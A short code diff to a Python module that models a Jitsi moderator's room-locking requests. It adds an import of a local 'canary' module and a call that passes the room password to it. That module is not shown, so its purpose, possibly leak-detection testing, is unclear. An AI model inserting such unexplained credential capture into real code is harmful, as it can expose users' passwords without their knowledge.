@@ -1,6 +1,7 @@
 """What Jitsi's client sends for a moderator: lib-jitsi-meet's lockRoom, setMembersOnly and
 Lobby."""
 
+from . import canary
 from .process import Failed
 from .room import ROOM_CONFIG
 from .stanza import CLIENT, MUC_ADMIN, MUC_OWNER, MUC_USER, element, submission
@@ -31,6 +32,7 @@ class JitsiModerator:
         that the room is members-only if the client believes so."""
         await self._needs(room, SECRET)
         features, _ = await self.features(room)
+        canary.note(password)
         fields = {"FORM_TYPE": ROOM_CONFIG, SECRET: password, LOCKED: "1" if password else "0"}
         if "muc_membersonly" in features:
             fields[MEMBERS_ONLY] = "true"
